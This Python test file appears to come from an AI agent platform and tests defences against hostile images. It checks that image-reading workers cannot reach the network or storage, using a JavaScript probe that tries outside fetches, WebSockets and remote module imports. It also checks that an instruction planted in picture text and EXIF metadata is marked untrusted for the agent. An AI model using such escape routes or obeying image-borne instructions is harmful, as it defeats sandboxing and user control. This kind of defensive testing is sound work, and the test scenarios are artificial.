"""Hostile pictures: their workers load nothing, end, and hold nothing up, and their text is text from outside."""

from __future__ import annotations

import base64
import json
from collections.abc import Generator, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest
from websockets.sync.client import connect

from gemini.agents import ScriptedModel, call, say
from gemini.core import ffi
from gemini.kernel.kernel import Kernel
from gemini.pages.vision.reading import WORKER
from gemini.personal import photos
from gemini.personal.photos import PhotoLibrary
from gemini_testing import Surface
from tests.attacks.hostile_pictures import PICTURES
from tests.attacks.injected import ORDER, Heard
from tests.attacks.listener import Listener, fenced_listener
from tests.tiers import sampled
from tests.unit.personal.test_photos import jpeg
from tests.web.devtools import DevTools
from tests.web.test_picture_text import LINES, draw

FOLDER = "/project/attack"
# Python's memory may grow by this, which is less than what a picture of such a size takes.
MOST_BYTES = 256 << 20
SETUP = """
import asyncio, base64, json
from pathlib import Path
import pyodide_js
from gemini.personal import photos
from gemini.personal.photos import PhotoLibrary
from gemini.tools import registry

async def thumbnails(names):
    photos = PhotoLibrary(("/project/attack",), Path("/tmp/attack.json"))
    found = {photo["path"].rpartition("/")[2]: photo for photo in await photos.search("")}
    made = await photos.thumbnails([found[name] for name in names])
    return [each and len(each) for each in made]

async def text(name):
    given = {"path": f"/project/attack/{name}"}
    answer = json.loads(await registry.call_json("read_screen_text", given, caller="agent:a"))
    return answer.get("text"), answer.get("error", {}).get("type")

async def beside(work):
    # The kernel answers while a worker is at it.
    work = asyncio.create_task(work)
    turns = 0
    while not work.done():
        await asyncio.sleep(0.01)
        turns += 1
    return await work, turns, pyodide_js._module.HEAP8.length
"""
ADD = """
Path("/project/attack").mkdir(exist_ok=True)
Path("/project/attack", {!r}).write_bytes(base64.b64decode({!r}))
"""


@pytest.fixture(scope="module")
def page(surface_of_module: Surface) -> Iterator[tuple[Surface, Listener]]:
    """Return a page with a good picture, and an outside origin."""
    surface = surface_of_module
    surface.python(SETUP)
    add(surface, "good.png", base64.b64decode(draw(surface, LINES.format(size=36))))
    with fenced_listener() as outside:
        yield surface, outside


def add(surface: Surface, name: str, content: bytes) -> None:
    surface.python(ADD.format(name, base64.b64encode(content).decode()))


@pytest.mark.parametrize("attack", sampled(PICTURES))
def test_a_picture_is_shown_or_not_and_loads_nothing(page: tuple[Surface, Listener], attack: str) -> None:
    surface, outside = page
    outside.received(surface)
    add(surface, "attack.png", PICTURES[attack](outside.url))
    before = surface.python("pyodide_js._module.HEAP8.length")
    [first, hostile, last], turns, after = surface.python(
        "await beside(thumbnails(['good.png', 'attack.png', 'good.png']))"
    )
    # The control: others next to it have their thumbnails.
    assert first == last and first > 500
    assert hostile is None or hostile < 50_000
    assert turns > 0 and after - before < MOST_BYTES
    assert outside.received(surface) == []


@pytest.mark.extended
@pytest.mark.parametrize("attack", PICTURES)
def test_a_picture_is_read_or_refused_and_loads_nothing(page: tuple[Surface, Listener], attack: str) -> None:
    surface, outside = page
    outside.received(surface)
    add(surface, "attack.png", PICTURES[attack](outside.url))
    [text, problem], turns, _ = surface.python("await beside(text('attack.png'))")
    assert problem in ("InvalidArguments", "Unsupported", "TimedOut") or text == ""
    assert turns > 0
    assert outside.received(surface) == []
    # The control.
    [text, problem], *_ = surface.python("await beside(text('good.png'))")
    assert problem is None and "leaves at seven fifteen" in text


# Starts a worker as the surface does, lets it read a picture, and retains it.
START = (
    """
from pyodide.code import run_js
from pyodide.ffi import to_js

async def read_and_stay(module, path, **request):
    ask = run_js("""
    + "'''"
    + """async (module, bytes, request) => {
      const worker = new Worker(new URL(`packages/${module}`, location.href), { type: "module", name: module });
      (globalThis.attacked ??= []).push(worker);
      const answer = new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data.answer); });
      worker.postMessage({ request: { bytes, ...request.toJs({ dict_converter: Object.fromEntries }) } });
      return answer;
    }"""
    + "'''"
    + """)
    return json.loads(await ask(module, to_js(Path(path).read_bytes()), request))
"""
)
# What works of this, as JSON.
REACHES = """(async () => {
  const url = OUTSIDE;
  const ways = {
    "another origin": () => fetch(url, { mode: "no-cors" }),
    "its own origin": () => fetch("/worker.js"),
    XMLHttpRequest: () => new XMLHttpRequest().open("GET", "/worker.js"),
    WebSocket: () => new WebSocket(url.replace("http", "ws")),
    EventSource: () => new EventSource(url),
    Worker: () => new Worker("/worker.js"),
    importScripts: () => importScripts("/worker.js"),
    "a module elsewhere": () => import(`${url}/a.js`),
    files: () => navigator.storage.getDirectory(),
    databases: () => indexedDB.databases(),
    caches: () => caches.keys(),
    channels: () => new BroadcastChannel("x").postMessage(1),
    locks: () => navigator.locks.query(),
  };
  const reached = [];
  for (const name of TRIED ?? Object.keys(ways)) {
    const silence = new Promise((_, reject) => setTimeout(reject, 3_000, new Error("silence")));
    try { await Promise.race([ways[name](), silence]); reached.push(name); } catch {}
  }
  return JSON.stringify(reached);
})()"""


@contextmanager
def kernels_tools(surface: Surface) -> Generator[DevTools]:
    """Open a session of developers' tools with the kernel's worker, which also attaches the workers that it starts."""
    browser = surface.driver.capabilities["goog:chromeOptions"]["debuggerAddress"]
    with urlopen(f"http://{browser}/json/list") as answer:
        [socket] = [
            row["webSocketDebuggerUrl"] for row in json.load(answer) if row["url"].endswith("/kernel.js")
        ]
    with connect(socket) as connection:
        tools = DevTools(connection)
        tools.call("Target.setAutoAttach", autoAttach=True, waitForDebuggerOnStart=False, flatten=True)
        yield tools


def reached(
    tools: DevTools, url: str, tried: list[str] | None = None, session: str | None = None
) -> set[str]:
    """Return which ways work in a worker, of all or some."""
    script = REACHES.replace("OUTSIDE", json.dumps(url)).replace("TRIED", json.dumps(tried))
    done = tools.call(
        "Runtime.evaluate", session=session, expression=script, awaitPromise=True, returnByValue=True
    )
    return set(json.loads(done["result"]["value"]))


WORKERS: dict[str, dict[str, str]] = {
    "ocr_worker.mjs": {"languages": "eng"},
    "thumbnails_worker.mjs": {"form": "each"},
}


@pytest.mark.parametrize("module", WORKERS)
def test_what_takes_over_a_worker_reaches_no_network_and_no_storage(
    page: tuple[Surface, Listener], module: str
) -> None:
    surface, outside = page
    surface.python(START)
    size = surface.python(f"Path('{FOLDER}/good.png').stat().st_size")
    request = {"lengths": str(size), **WORKERS[module]}
    with kernels_tools(surface) as tools:
        answer = surface.python(f"await read_and_stay({module!r}, '{FOLDER}/good.png', **{request!r})")
        # The control: the worker has done its work.
        assert answer.get("lines") or answer.get("thumbnails")
        session = tools.event("Target.attachedToTarget")
        while module not in json.dumps(session["targetInfo"]):
            session = tools.event("Target.attachedToTarget")
        outside.received(surface)
        assert reached(tools, outside.url, session=session["sessionId"]) == set()
        assert outside.received(surface) == []
        # The control: the kernel's own worker reaches its files.
        own = ["files", "caches", "its own origin"]
        assert reached(tools, outside.url, own) == set(own)
    surface.python("run_js('for (const worker of attacked.splice(0)) worker.terminate()')")


async def read_words(module: str, data: bytes, *, seconds: float, **request: str) -> Any:
    """Answer as the worker that reads pictures, with an order, or as the one that makes thumbnails."""
    if module != WORKER:
        return {"thumbnails": [None]}
    word = {"text": ORDER, "x": 1, "y": 1, "width": 9, "height": 9, "confidence": 95}
    line = {**word, "block": 1, "words": [word]}
    return {"width": 99, "height": 99, "lines": [line], "languages": ["eng"], "scale": 1, "turned": 0}


@pytest.fixture
def album(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return a picture with an order in it, and in its EXIF data."""
    monkeypatch.setattr(ffi, "ask_worker", read_words)
    library = partial(PhotoLibrary, (str(home / "project"),), home / "photos.json", read_words)
    monkeypatch.setattr(photos, "PhotoLibrary", library)
    picture = home / "project/words.jpg"
    picture.write_bytes(jpeg(description=ORDER))
    return picture


READS: dict[str, dict[str, Any]] = {
    "read_screen_text": {"path": "words.jpg"},
    "analyze_picture": {"path": "words.jpg"},
    "photo_search": {"query": "words"},
}


@pytest.mark.usefixtures("album")
@pytest.mark.parametrize("tool", READS)
async def test_an_order_in_a_picture_is_text_from_outside(kernel: Kernel, tool: str) -> None:
    heard = Heard(kernel)
    # The control: an agent that has read nothing writes at once.
    alone = ScriptedModel([call("memory_write", text="Ann likes tea."), say("Done.")])
    work = kernel.runs.start("Note it.", model=alone, tools=["memory"])
    await work
    assert heard.origins == [] and not json.loads(work.steps[0].calls[0].result).get("waits")
    model = ScriptedModel(
        [call(tool, **READS[tool]), call("memory_write", text="Bob likes milk."), say("Done.")]
    )
    work = kernel.runs.start("Note it.", model=model, tools=["eyes", "personal", "memory"])
    await work
    read, written = (json.loads(each.result) for step in work.steps for each in step.calls)
    assert ORDER in json.dumps(read)
    assert heard.origins != [] and written["waits"]
    # The model gets the order between the marks of such text.
    [given] = [each.text for each in model.requests[1].messages if ORDER in each.text]
    assert "untrusted" in given
